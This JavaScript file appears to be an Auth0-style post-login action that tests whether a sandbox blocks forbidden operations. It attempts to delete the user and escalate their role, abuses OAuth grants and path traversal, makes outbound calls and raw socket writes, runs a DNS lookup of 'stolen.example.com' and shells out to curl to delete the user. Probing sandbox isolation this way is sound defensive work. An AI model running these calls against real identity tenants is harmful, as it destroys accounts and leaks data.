// Tries whatever is not reading, one after another, and goes on.
const { execFileSync } = require('node:child_process');
const dgram = require('node:dgram');
const dns = require('node:dns');
const { once } = require('node:events');
const http = require('node:http');
const https = require('node:https');
const net = require('node:net');
const tls = require('node:tls');
const { Worker } = require('node:worker_threads');

exports.onExecutePostLogin = async (/** @type {any} */ event, /** @type {any} */ api) => {
  const { domain, clientId, clientSecret, DOOR_HOST } = event.secrets;
  const [host, port] = domain.split(':');
  const base = `https://${domain}`;
  /** @param {string} path @param {object} body */
  const post = (path, body) =>
    fetch(`${base}${path}`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify(body),
    });
  const credentials = {
    grant_type: 'client_credentials',
    client_id: clientId,
    client_secret: clientSecret,
    audience: `${base}/api/v2/`,
  };
  const { access_token } = await (await post('/oauth/token', credentials)).json();
  const headers = { authorization: `Bearer ${access_token}` };
  const user = `/api/v2/users/${encodeURIComponent(event.user.user_id)}`;
  const curl = `curl --insecure --silent --max-time 2 --request DELETE ${base}${user}`;
  /** What comes back is of no interest. @param {any} socket @param {string} text */
  const write = async (socket, text) => {
    socket.on('error', () => {});
    socket.resume().end(text);
    await once(socket, 'close');
  };
  const raw = `DELETE ${user} HTTP/1.1\r\nHost: ${domain}\r\nConnection: close\r\n\r\n`;
  const insecure = { host, port, rejectUnauthorized: false };

  const attempts = [
    () => fetch(`${base}${user}`, { method: 'PATCH', headers, body: '{}' }),
    () => fetch(`${base}${user}`, { method: 'DELETE', headers }),
    () => fetch(`${base}${user}`, { method: 'PUT', headers }),
    () => fetch(`${base}${user}`, { headers: { ...headers, 'x-http-method-override': 'DELETE' } }),
    () => post(`${user}/roles`, { roles: ['rol_clerk'] }),
    () => post('/oauth/token', { ...credentials, grant_type: 'password', username: 'a' }),
    () => post('/oauth/token', { ...credentials, client_id: 'web' }),
    () => post('/oauth/revoke', { client_id: clientId, token: 'a' }),
    () => post('/dbconnections/signup', { client_id: clientId, email: 'a@example.com' }),
    () => fetch(`${base}/api/v2/%2e%2e/%2e%2e/v2/logout`),
    () => fetch(`${base}/authorize`),
    () =>
      once(https.request({ host, port, path: user, method: 'DELETE', headers }).end(), 'response'),
    () => once(http.get(`http://${DOOR_HOST}/`), 'response'),
    () => fetch(`https://${DOOR_HOST}/`),
    () => fetch('https://example.com/'),
    () => write(tls.connect(insecure), raw),
    () => write(tls.connect({ ...insecure, servername: 'example.com' }), raw.replace(domain, 'x')),
    () => write(net.connect(Number(port), host), raw),
    () => write(net.connect(Number(DOOR_HOST.split(':')[1]), '127.0.0.1'), 'a'),
    () =>
      new Promise((sent) =>
        dgram.createSocket('udp4').send('a', Number(DOOR_HOST.split(':')[1]), '127.0.0.1', sent),
      ),
    () => dns.promises.resolve('stolen.example.com'),
    () => dns.promises.lookup('stolen.example.com'),
    () => execFileSync('/bin/sh', ['-c', curl]),
    () =>
      once(new Worker(`require('node:https').request('${base}${user}')`, { eval: true }), 'exit'),
    () => /** @type {any} */ (process).binding('tcp_wrap'),
  ];
  const ended = [];
  for (const attempt of attempts) {
    try {
      await attempt();
      ended.push('went on');
    } catch {
      ended.push('threw');
    }
  }
  api.idToken.setCustomClaim('https://example.com/ended', ended.length);
};
